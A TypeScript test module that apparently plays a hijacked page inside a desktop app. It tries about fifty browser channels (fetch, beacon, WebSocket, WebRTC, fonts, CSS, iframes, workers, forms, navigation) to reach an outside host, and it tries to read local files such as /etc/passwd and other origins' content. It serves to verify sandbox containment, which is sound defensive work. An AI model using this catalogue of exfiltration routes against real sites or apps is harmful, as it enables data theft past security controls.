/**
 * Runs in a page, as the script of somebody who has taken it over: tries every way out that needs no person, and
 * returns what was promised of each. Whether anything got through is seen at the other end. It must stand alone.
 */
export async function tryWaysOut(host: string): Promise<string[]> {
  const web = `http://${host}`
  const put = <Tag extends keyof HTMLElementTagNameMap>(
    tag: Tag,
    attributes: Readonly<Record<string, string>>,
  ): HTMLElementTagNameMap[Tag] => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.body.append(element)
    return element
  }
  const link = (rel: string, more = {}) => put('link', { rel, href: `${web}/${rel}`, ...more })
  const sheet = (rules: string) => {
    const made = new CSSStyleSheet()
    made.replaceSync(rules)
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, made]
  }
  const blob = (code: string) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))
  const peer = async (urls: string) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls, username: 'u', credential: 'c' }] })
    connection.createDataChannel('out')
    await connection.setLocalDescription()
  }
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(`${web}/fetch`, { mode: 'no-cors' }),
    keepalive: () =>
      fetch(`${web}/keepalive`, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
    request: () => {
      const request = new XMLHttpRequest()
      request.open('GET', `${web}/request`)
      request.send()
    },
    beacon: () => navigator.sendBeacon(`${web}/beacon`, 'x'),
    socket: () => new WebSocket(`ws://${host}/socket`),
    events: () => new EventSource(`${web}/events`),
    transport: () => new WebTransport(`https://${host}/transport`).ready,
    image: () => put('img', { src: `${web}/image` }),
    responsive: () => put('img', { srcset: `${web}/srcset 1x` }),
    font: () => new FontFace('Out', `url(${web}/font)`).load(),
    background: () => {
      sheet(`body { background: url(${web}/background) }`)
      return document.body.offsetHeight
    },
    imported: () => put('style', {}).append(`@import url(${web}/import)`),
    script: () => put('script', {}).setAttribute('src', `${web}/script`),
    inline: () => put('script', {}).append(`fetch('${web}/inline')`),
    module: () => import(/* @vite-ignore */ `${web}/module.js`),
    worklet: () => new AudioContext().audioWorklet.addModule(`${web}/worklet.js`),
    worker: () => new Worker(blob(`importScripts('${web}/worker')`)),
    sharedWorker: () => new SharedWorker(blob(`fetch('${web}/shared')`)),
    serviceWorker: () => navigator.serviceWorker.register('/assets/service.js'),
    stylesheet: () => link('stylesheet'),
    prefetch: () => link('prefetch'),
    preload: () => link('preload', { as: 'image' }),
    modulepreload: () => link('modulepreload'),
    preconnect: () => link('preconnect'),
    dns: () => link('dns-prefetch'),
    icon: () => link('icon'),
    manifest: () => link('manifest'),
    rules: () =>
      put('script', { type: 'speculationrules' }).append(
        JSON.stringify({ prefetch: [{ source: 'list', urls: [`${web}/speculation`] }] }),
      ),
    frame: () => put('iframe', { src: `${web}/frame` }),
    framed: () => put('iframe', { srcdoc: `<img src="${web}/framed">` }),
    object: () => put('object', { data: `${web}/object` }),
    embed: () => put('embed', { src: `${web}/embed` }),
    sound: () => put('audio', { src: `${web}/sound`, preload: 'auto' }).load(),
    film: () => put('video', { poster: `${web}/poster`, src: `${web}/film` }),
    refresh: () => put('meta', { 'http-equiv': 'refresh', content: `0;url=${web}/refresh` }),
    stun: () => peer(`stun:${host}`),
    turn: () => peer(`turn:${host}?transport=tcp`),
    window: () => {
      if (window.open(`${web}/window`) !== null) throw new Error('a window was opened')
    },
    blank: () => put('a', { href: `${web}/blank`, target: '_blank' }).click(),
    ping: () => put('a', { href: '#', ping: `${web}/ping` }).click(),
    download: () => put('a', { href: `${web}/download`, download: 'x' }).click(),
    form: () => put('form', { action: `${web}/form`, method: 'post' }).submit(),
    newForm: () => put('form', { action: `${web}/form`, target: '_blank' }).submit(),
    other: () => {
      window.location.href = 'app://main-window/other.html'
    },
    file: () => {
      window.location.href = 'file:///etc/passwd'
    },
    navigation: () => {
      window.location.href = `${web}/navigation`
    },
  }
  const outcomes = await Promise.all(
    Object.entries(ways).map(async ([name, way]) => {
      const patience = new Promise<string>((resolve) => setTimeout(() => resolve('silence'), 1000))
      const attempt = Promise.resolve()
        .then(way)
        .then(
          () => 'no word',
          (error: unknown) => `refused: ${error instanceof Error ? error.name : String(error)}`,
        )
      return `${name}: ${await Promise.race([attempt, patience])}`
    }),
  )
  await new Promise((resolve) => setTimeout(resolve, 500))
  return outcomes
}

/** What of the files and of other pages' origins a page can read. It must stand alone. */
export async function tryToRead(paths: readonly string[]): Promise<string[]> {
  const byRequest = (url: string) =>
    new Promise<string>((resolve, reject) => {
      const request = new XMLHttpRequest()
      request.onload = () => resolve(request.responseText)
      request.onerror = () => reject(new Error('refused'))
      request.open('GET', url)
      request.send()
    })
  const byFetch = async (url: string) => (await fetch(url)).text()
  const read: string[] = []
  for (const path of paths) {
    for (const way of [byRequest, byFetch]) {
      const text = await way(path).catch(() => '')
      if (text !== '') read.push(`${path}: ${text.slice(0, 80)}`)
    }
  }
  return read
}
